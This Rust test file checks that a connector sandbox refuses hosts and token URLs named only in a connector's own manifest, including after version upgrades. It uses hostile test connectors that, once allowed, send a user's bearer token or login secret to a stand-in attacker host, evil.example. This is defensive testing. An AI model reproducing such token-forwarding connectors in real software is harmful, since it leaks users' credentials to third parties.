//! What a connector's author wrote into its manifest is a wish: a host that nobody named gets no
//! request, and no address but the one that a person gave to sign in at gets a secret.

use airlock_runtime::{Category, ConnectionFault, ErrorCode, HostError};
use serde_json::json;
use support::{AUTHORITY, Connect, EVIL, Lab, guest};

/// A connection of one of the liar's kinds, with a token URL only where the kind leaves it open.
fn liar(kind: &str) -> Connect {
    let connect = Connect::to("liar_hosts").kind(kind);
    if kind == "planted-default" {
        connect.without_token_url()
    } else {
        connect
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_of_the_authors_own_is_refused_by_name_until_a_person_allows_it() {
    let lab = Lab::open().await;
    for (kind, wants) in [
        ("client-credentials", "reach evil.example:*"),
        ("own-authority", "secrets to https://evil.example/token"),
        ("planted-default", "secrets to https://evil.example/token"),
    ] {
        let error = lab.try_connect(liar(kind)).await.map(drop).unwrap_err();
        assert_eq!(error.category(), Category::Input, "{kind}: {error}");
        assert!(error.to_string().contains(wants), "{kind}: {error}");
        assert_eq!(error.code(), ErrorCode::NotGranted, "{kind}: {error}");
    }
    for kind in ["own-authority", "planted-default"] {
        let connect = |name: &str| liar(kind).named(&format!("{kind}-{name}"));
        // A host that may be reached is not one that may be sent secrets.
        let reached = lab.try_connect(connect("host").allowed(EVIL)).await;
        assert!(reached.is_err(), "{kind}");
        let allowed = lab
            .try_connect(connect("url").allowed("https://evil.example/token"))
            .await;
        assert!(allowed.is_ok(), "{kind}: {:?}", allowed.map(drop));
    }
    // What the refusals above prevented.
    let thief = lab
        .connect(liar("client-credentials").allowed("evil.example:*"))
        .await;
    thief
        .run(json!({ "url": lab.evil_url("/caught") }))
        .await
        .unwrap();
    let bearer = format!("Bearer {}", thief.login.token);
    let caught = lab.evil.seen_at("/caught");
    assert_eq!(caught[0].header("authorization"), Some(bearer.as_str()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_version_cannot_bring_a_host_along() {
    let lab = Lab::open().await;
    let guest_of_old = lab.guest("honest").await;
    assert_eq!(guest_of_old.run(json!({})).await.unwrap()["status"], 200);
    lab.host
        .add_connector(
            &guest_of_old.tenant,
            Some("honest".parse().unwrap()),
            guest("liar_hosts"),
        )
        .await
        .unwrap();
    let error = guest_of_old
        .run(json!({ "url": lab.evil_url("/x") }))
        .await
        .unwrap_err();
    assert!(error.to_string().contains("evil.example:*"), "{error}");
    assert_eq!(lab.evil.connections(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_go_to_no_address_that_is_made_of_another() {
    let lab = Lab::open().await;
    for (kind, address) in [
        ("elsewhere", lab.service_url("/token")),
        ("beside", lab.authority.url_as(AUTHORITY, "/token/theirs")),
    ] {
        let connect = |name: &str| {
            Connect::to("misplaced")
                .kind(kind)
                .named(&format!("{kind}-{name}"))
                .url(lab.service_url("/api"))
        };
        let error = lab.try_connect(connect("no")).await.map(drop).unwrap_err();
        assert_eq!(error.category(), Category::Input, "{kind}: {error}");
        let HostError::Connection {
            fault: ConnectionFault::NotGranted { target, .. },
            ..
        } = error
        else {
            panic!("{kind}: {error:?}");
        };
        assert_eq!(target, address, "{kind}");
        // What the refusal prevented.
        let guest = lab.connect(connect("yes").allowed(address)).await;
        guest.run(json!({})).await.unwrap();
        let told = [lab.service.seen(), lab.authority.seen()].concat();
        let secret = guest.login.secret.as_bytes();
        let sent = |body: &[u8]| body.windows(secret.len()).any(|part| part == secret);
        assert!(told.iter().any(|request| sent(&request.body)), "{kind}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_version_cannot_send_the_secret_to_the_service() {
    let lab = Lab::open().await;
    let guest_of_old = lab
        .connect(Connect::to("honest").url(lab.service_url("/base")))
        .await;
    assert_eq!(guest_of_old.run(json!({})).await.unwrap()["status"], 200);
    let before = lab.service.seen().len();
    lab.host
        .add_connector(
            &guest_of_old.tenant,
            Some("honest".parse().unwrap()),
            guest("misplaced"),
        )
        .await
        .unwrap();
    let error = guest_of_old.run(json!({})).await.unwrap_err();
    let service = lab.service_url("/base");
    assert!(
        error.to_string().contains(&format!("secrets to {service}")),
        "{error}"
    );
    assert_eq!(lab.service.seen().len(), before);
}
